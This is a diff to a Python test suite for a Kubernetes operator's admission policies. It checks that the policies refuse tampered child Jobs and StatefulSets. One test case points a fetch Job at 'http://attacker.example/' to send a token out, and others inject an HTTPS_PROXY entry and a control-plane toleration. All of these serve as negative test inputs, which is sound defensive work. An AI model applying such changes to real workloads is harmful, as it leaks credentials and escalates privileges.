@@ -209,7 +209,7 @@ def rendered(values: dict[str, Any]) -> dict[str, list[dict[str, Any]]]:
 
 def operator_policy(kinds: dict[str, list[dict[str, Any]]], kind: str = "ValidatingAdmissionPolicy") -> dict[str, Any]:
     """The policy (or binding) on the operator's ServiceAccount, not the authors' one."""
-    (policy,) = [p for p in kinds[kind] if "-authors." not in p["metadata"]["name"]]
+    (policy,) = [p for p in kinds[kind] if not any(f"-{o}." in p["metadata"]["name"] for o in ("authors", "children"))]
     return policy
 
 
@@ -225,6 +225,14 @@ def test_the_chart_renders_this_policy_for_its_service_account() -> None:
     assert condition["expression"] == f'request.userInfo.username == "{username}"'
     assert policy["spec"]["failurePolicy"] == "Fail"
     assert binding["spec"] == {"policyName": policy["metadata"]["name"], "validationActions": ["Deny"]}
+    # the children policy: same ServiceAccount, every PolicyServer of the namespace a param, none there: admitted
+    (children,) = [p for p in kinds["ValidatingAdmissionPolicy"] if "-children." in p["metadata"]["name"]]
+    (children_binding,) = [
+        b for b in kinds["ValidatingAdmissionPolicyBinding"] if "-children." in b["metadata"]["name"]
+    ]
+    assert {k: children["spec"][k] for k in admission.param_policy_body()} == admission.param_policy_body()
+    assert children["spec"]["matchConditions"] == policy["spec"]["matchConditions"]
+    assert children_binding["spec"]["paramRef"] == {"selector": {}, "parameterNotFoundAction": "Allow"}
     assert policy["metadata"]["name"].startswith(RELEASE) and policy["metadata"]["name"].endswith(f".{NS}")
     off = rendered({"admissionPolicy": {"enabled": False}})
     assert "ValidatingAdmissionPolicy" not in off and "ValidatingAdmissionPolicyBinding" not in off
@@ -545,9 +553,80 @@ def test_the_chart_renders_the_authors_policy_unless_authors_are_trusted() -> No
     assert {k: policy["spec"][k] for k in body} == body
     assert binding["spec"]["matchResources"]["namespaceSelector"]["matchExpressions"][0]["values"] == [NS, "other"]
     trusted = rendered({"admissionPolicy": {"trustedAuthors": True}})
-    assert [p["metadata"]["name"] for p in trusted["ValidatingAdmissionPolicy"]] == [
-        operator_policy(trusted)["metadata"]["name"]
-    ]
+    assert not [p for p in trusted["ValidatingAdmissionPolicy"] if "-authors." in p["metadata"]["name"]]
+
+
+def param_refusals(obj: dict[str, Any], owner: dict[str, Any]) -> list[str]:
+    """The children policy on ``obj`` with ``owner`` (a PolicyServer) as its param, as the API server runs it."""
+    activation: dict[str, Any] = {
+        "object": celpy.json_to_cel(obj),
+        "params": celpy.json_to_cel(owner),
+        "request": celpy.json_to_cel({"operation": "CREATE"}),
+    }
+    variables: dict[str, Any] = {}
+    for variable in (*admission._SHAPE_VARIABLES, *admission.PARAM_VARIABLES):
+        activation["variables"] = celpy.celtypes.MapType(
+            {celpy.celtypes.StringType(k): v for k, v in variables.items()}
+        )
+        try:
+            variables[variable.name] = _run(variable.expression, activation)
+        except celpy.CELEvalError as exc:  # lazily evaluated by the API server: unused, it fails nothing
+            variables[variable.name] = exc
+    activation["variables"] = celpy.celtypes.MapType({celpy.celtypes.StringType(k): v for k, v in variables.items()})
+    return [v.message for v in admission.PARAM_VALIDATIONS if not bool(_run(v.expression, activation))]
+
+
+def policyserver(fields: dict[str, Any]) -> dict[str, Any]:
+    spec = {"image": "registry.example/policy:1", "checkpoint": {"source": "hf://org/policy"}, **fields}
+    return {**OWNER, "spec": spec}
+
+
+def test_a_server_pod_and_the_compile_key_are_not_read_against_the_policyserver() -> None:
+    """Their controller is the StatefulSet, and a Secret has no template: only Jobs and StatefulSets are."""
+    spec = spec_of(**SPECS["http-token-and-auth"])
+    template = manifests.build_statefulset(spec)["spec"]["template"]
+    pod: dict[str, Any] = {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "ps-0", **template["metadata"]}}
+    pod["spec"] = template["spec"]
+    owner = policyserver(SPECS["http-token-and-auth"])
+    assert param_refusals(pod, owner) == []
+    assert param_refusals(adopted(manifests.build_compile_key_secret(spec, "0" * 64)), owner) == []
+
+
+def test_a_child_is_read_against_the_policyserver_it_names() -> None:
+    """issue 39 item 4: a fetch sending the PolicyServer's token to another host, a Secret it does not name, a
+    toleration or an environment entry it does not set: refused with the PolicyServer as the param."""
+    for name, fields in SPECS.items():
+        owner = policyserver(fields)
+        spec = spec_of(**fields)
+        for child in (manifests.build_fetch_job(spec), manifests.build_statefulset(spec)):
+            assert param_refusals(adopted(child), owner) == [], name
+        # another PolicyServer of the namespace (one more evaluation): nothing is checked against it
+        other = {**policyserver({}), "metadata": {"name": "other", "uid": "u-2"}}
+        assert param_refusals(adopted(manifests.build_fetch_job(spec)), other) == [], name
+    fields = SPECS["hf-token"]
+    owner, spec = policyserver(fields), spec_of(**fields)
+    job = adopted(manifests.build_fetch_job(spec))
+
+    def broken(change: Any) -> dict[str, Any]:
+        copied = copy.deepcopy(job)
+        change(copied, copied["spec"]["template"]["spec"]["containers"][0])
+        return copied
+
+    def declare(j: dict[str, Any], c: dict[str, Any]) -> None:
+        j["metadata"]["annotations"][C.ANNOTATION_SECRETS] = "hf,not-named"
+
+    cases = {
+        "a fetch downloads": lambda j, c: c["command"].__setitem__(2, "http://attacker.example/"),
+        "every Secret a workload declares": declare,
+        "spec.tolerations": lambda j, c: j["spec"]["template"]["spec"].update(
+            tolerations=[{"key": "node-role.kubernetes.io/control-plane", "operator": "Exists"}]
+        ),
+        "every environment entry": lambda j, c: c["env"].append({"name": "HTTPS_PROXY", "value": "http://a:1"}),
+        "controlled by": lambda j, c: j["metadata"]["ownerReferences"][0].update(uid="u-other"),
+    }
+    for fragment, change in cases.items():
+        (refusal,) = param_refusals(broken(change), owner)
+        assert fragment in refusal, (fragment, refusal)
 
 
 def test_the_service_account_creates_only_the_compile_key_secret() -> None:
